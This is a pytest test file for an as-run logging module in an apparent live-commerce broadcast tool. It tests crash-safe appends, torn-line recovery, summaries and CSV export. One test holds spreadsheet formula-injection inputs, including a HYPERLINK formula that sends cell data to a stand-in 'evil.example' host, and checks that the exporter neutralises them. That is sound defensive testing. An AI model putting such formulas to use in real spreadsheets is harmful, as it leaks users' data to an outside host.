"""The as-run log: durable appends, one file per day, torn lines after a crash, CSV export."""

import csv
import os
import signal
import subprocess
import sys
import textwrap
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from studio.runner.asrun import AIRED, BLOCKED, AsRunLog, AsRunRecord, export_csv, read_file, summarize
from studio.runner.planner import Position

TZ = timezone(timedelta(hours=8))


def record(i: int, start: datetime, outcome: str = AIRED) -> AsRunRecord:
    return AsRunRecord(
        start=start, end=start + timedelta(seconds=3), line_id=f"tea/pitch/{i % 5 + 1}", kind="pitch",
        text=f"第{i}句：今天只要168元", outcome=outcome, duration=3.0, language="zh-CN", rundown="evening",
        product="tea", position=Position("evening", 0, 0, 0, i % 5),
        findings=("最佳: absolute term (Advertising Law art. 9(3))",) if outcome == BLOCKED else (),
    )


def test_round_trip_and_day_files(tmp_path: Path) -> None:
    log = AsRunLog(tmp_path)
    late = datetime(2026, 11, 26, 23, 59, 58, tzinfo=TZ)
    log.append(record(1, late))
    log.append(record(2, late + timedelta(seconds=3)))  # starts after midnight: next day's file
    log.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2026-11-26.jsonl", "2026-11-27.jsonl"]
    day1 = log.read_day(late.date())
    assert day1.records == [record(1, late)] and day1.unreadable == []
    assert log.last_position() == Position("evening", 0, 0, 0, 2)


def test_torn_last_line_is_skipped_and_the_next_append_starts_clean(tmp_path: Path) -> None:
    log = AsRunLog(tmp_path)
    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
    log.append(record(1, t))
    log.close()
    path = log.path_for(t.date())
    with path.open("a", encoding="utf-8") as fh:
        fh.write('{"start": "2026-11-26T10:00:03.000+08:00", "end": "2026-')  # killed mid-write
    log = AsRunLog(tmp_path)
    log.append(record(3, t + timedelta(seconds=6)))
    log.close()
    reading = read_file(path)
    assert [r.text for r in reading.records] == ["第1句：今天只要168元", "第3句：今天只要168元"]
    assert reading.unreadable == [2]


def test_summary_and_csv(tmp_path: Path) -> None:
    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
    records = [record(i, t + timedelta(seconds=4 * i), BLOCKED if i == 2 else AIRED) for i in range(5)]
    summary = summarize(records)
    assert summary.lines == 5 and summary.outcomes == {AIRED: 4, BLOCKED: 1}
    assert summary.aired_seconds == 12.0 and summary.by_product == {"tea": 4}
    assert "4 aired" in summary.format() and "1 blocked" in summary.format()
    out = tmp_path / "asrun.csv"
    assert export_csv(records, out) == 5
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads Chinese CSV only with a BOM
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert rows[2]["outcome"] == BLOCKED and "最佳" in rows[2]["findings"]
    assert rows[0]["text"] == "第0句：今天只要168元"
    assert rows[0]["duration"] == "3.0"  # a number, not neutralised text


def test_asrun_csv_neutralises_formula_cells_from_lines_and_viewers(tmp_path: Path, capsys) -> None:
    from studio.cli import main
    from studio.core.csvout import restore_cell

    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
    texts = ["-50% 限时折扣，最后五分钟", '=HYPERLINK("http://evil.example/?q="&A1,"领券"): 多少钱',
             "@SUM(1,1)", "+1 再来一单", "＝1+1 全角", "今天只要168元"]
    log = AsRunLog(tmp_path / "log")
    for i, text in enumerate(texts):
        log.append(AsRunRecord(start=t + timedelta(seconds=i), end=t + timedelta(seconds=i), line_id="chat/none",
                               kind="comment", text=text, outcome="dropped", note="-no matching answer"))
    log.close()
    out_csv = tmp_path / "day.csv"
    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(out_csv)]) == 0
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    assert [r["text"] for r in rows] == ["'" + x for x in texts[:5]] + [texts[5]]
    assert [restore_cell(r["text"]) for r in rows] == texts  # read back exactly
    assert {r["note"] for r in rows} == {"'-no matching answer"}
    assert {r["duration"] for r in rows} == {"0.0"}


def test_kill_dash_nine_loses_at_most_the_line_in_progress(tmp_path: Path) -> None:
    # A real process appends records as fast as it can; we kill it without warning.
    script = textwrap.dedent(f"""
        import sys
        from datetime import datetime, timedelta, timezone
        from pathlib import Path
        from studio.runner.asrun import AsRunLog, AsRunRecord
        from studio.runner.planner import Position
        log = AsRunLog(Path({str(tmp_path)!r}))
        t = datetime(2026, 11, 26, 10, 0, tzinfo=timezone(timedelta(hours=8)))
        i = 0
        while True:
            log.append(AsRunRecord(start=t, end=t, line_id=f"l{{i}}", kind="pitch", text="x" * 200,
                                   outcome="aired", position=Position("main", 0, i % 4, 0, 0)))
            i += 1
            if i == 50:
                print("ready", flush=True)
    """)
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "ready"
    time.sleep(0.2)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=10)
    reading = read_file(tmp_path / "2026-11-26.jsonl")
    assert len(reading.records) >= 50
    assert len(reading.unreadable) <= 1  # at most the torn final line
    ids = [int(r.line_id[1:]) for r in reading.records]
    assert ids == list(range(len(ids)))  # nothing lost or reordered before the kill
    assert AsRunLog(tmp_path).last_position() == Position("main", 0, ids[-1] % 4, 0, 0)


def test_asrun_command_prints_a_summary_and_exports_csv(tmp_path: Path, capsys) -> None:
    from studio.cli import main

    log = AsRunLog(tmp_path / "log")
    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
    for i in range(3):
        log.append(record(i, t + timedelta(seconds=4 * i), BLOCKED if i == 1 else AIRED))
    log.close()
    out_csv = tmp_path / "day.csv"
    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(out_csv), "--lines"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("2026-11-26: 3 lines, 2 aired, 0 skipped, 0 failed, 1 blocked")
    assert "tea: 2 lines aired" in out and "第1句" in out
    assert len(out_csv.read_text(encoding="utf-8-sig").splitlines()) == 4
    assert main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--date", "2026-11-25"]) == 1
    assert "days with records: 2026-11-26" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:  # a usage error (studio.core.cliargs): one line, exit 2
        main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--date", "26/11"])
    assert exc.value.code == 2
    capsys.readouterr()
    with pytest.raises(SystemExit) as exc:
        main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(tmp_path)])
    assert exc.value.code == 2 and "is a folder" in capsys.readouterr().err
    missing = tmp_path / "nope" / "day.csv"
    with pytest.raises(SystemExit) as exc:
        main(["asrun", str(tmp_path), "--log-dir", str(tmp_path / "log"), "--csv", str(missing)])
    assert exc.value.code == 2 and not missing.parent.exists()


def test_day_tail_reads_only_what_was_appended(tmp_path: Path) -> None:
    from studio.runner.asrun import DayTail

    log = AsRunLog(tmp_path)
    t = datetime(2026, 11, 26, 10, 0, tzinfo=TZ)
    log.append(record(1, t))
    tail = DayTail(log.path_for(t.date()))
    assert [r.text for r in tail.poll()] == ["第1句：今天只要168元"]
    assert tail.poll() == []
    log.append(record(2, t + timedelta(seconds=4)))
    with log.path_for(t.date()).open("a", encoding="utf-8") as fh:
        fh.write('{"start": "2026-11-26T10:00:')  # a line still being written
    assert [r.text for r in tail.poll()] == ["第2句：今天只要168元"]
    assert tail.reading.unreadable == []  # the unfinished line waits for the next poll
    log.close()
